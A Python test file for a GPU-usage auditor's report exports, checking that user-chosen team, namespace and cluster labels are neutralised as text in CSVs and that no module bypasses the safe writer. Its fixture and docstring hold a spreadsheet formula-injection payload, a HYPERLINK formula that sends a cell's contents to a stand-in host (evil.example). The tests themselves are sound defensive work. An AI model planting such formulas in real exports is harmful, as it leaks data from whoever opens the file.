"""CSV formula injection: a label chosen by a cluster user must open as text in a spreadsheet.

A team or namespace label ``=HYPERLINK("http://evil/?"&A1,"click")`` was written to the
report CSVs as is, so opening the weekly report ran it. Every CSV the product writes goes
through :func:`auditor.render.safe_text.csv_row`; the figures stay numbers.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import datetime, timedelta, timezone
from pathlib import Path

from auditor.reports.aggregate import Prices, WeekData, build_report
from auditor.reports.formats import teams_csv, write_jobs_csv
from auditor.store.reports import Group

UTC = timezone.utc
WS = datetime(2026, 11, 16, tzinfo=UTC)
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_team_csv_writes_a_formula_label_as_text() -> None:
    groups = [
        Group(EVIL, "idle", "H200", 1, 4.0, 4.0, 0.0, 4.0, 0.0),
        Group("+cmd", "healthy", "H200", 1, 2.0, 2.0, 0.0, 0.5, 0.0),
    ]
    doc = build_report(
        WeekData("2026-W47", WS, WS + timedelta(days=7), groups),
        [],
        timezone="UTC",
        prices=Prices(),
        generated_at=WS,
        top_n=5,
    )
    rows = list(csv.DictReader(io.StringIO(teams_csv(doc))))
    teams = {r["team"] for r in rows if r["row"] == "team"}
    assert teams == {"'" + EVIL, "'+cmd"}
    assert all(not r["team"].startswith(("=", "+", "-", "@")) for r in rows)
    assert {r["gpu_hours"] for r in rows if r["row"] == "team"} == {"4.0", "2.0"}  # figures stay numbers


def test_job_csv_neutralises_every_text_cell() -> None:
    job = {
        "cluster": "@cluster",
        "team": "-2+3",
        "namespace": "\tns",
        "job": "Job/=1+1",
        "gpu_model": "\rH200",
        "verdict": "idle",
        "gpu_hours": 3.5,
        "waste_gpu_hours": -0.0,
        "sm_active": None,
    }
    buf = io.StringIO()
    assert write_jobs_csv(buf, "2026-W47", [job]) == 1
    (row,) = csv.DictReader(io.StringIO(buf.getvalue(), newline=""))
    assert row["cluster"] == "'@cluster" and row["team"] == "'-2+3" and row["namespace"] == "'\tns"
    assert row["job"] == "Job/=1+1"  # not at the start: no spreadsheet runs it
    assert row["gpu_model"] == "'\rH200"
    assert row["gpu_hours"] == "3.5" and row["waste_gpu_hours"] == "-0.0" and row["sm_active"] == ""


def test_a_carriage_return_inside_a_label_cannot_forge_a_row() -> None:
    buf = io.StringIO()
    write_jobs_csv(buf, "2026-W47", [{"team": "a\rforged,row", "gpu_hours": 1.0}])
    rows = list(csv.reader(io.StringIO(buf.getvalue(), newline="")))
    assert len(rows) == 2 and rows[1][2] == "a\rforged,row" and rows[1][11] == "1.0"


def test_every_csv_writer_of_the_product_is_the_safe_one() -> None:
    """A new CSV export must not bypass CsvWriter: no other module of the package builds a
    ``csv.writer``/``csv.DictWriter``."""
    root = Path(__file__).resolve().parents[2] / "auditor"
    found = [
        f"{path.relative_to(root.parent)}:{n}"
        for path in root.rglob("*.py")
        if path.name != "safe_text.py" and "testbed" not in path.parts
        for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1)
        if re.search(r"csv\.(writer|DictWriter)\(", line)
    ]
    assert found == []
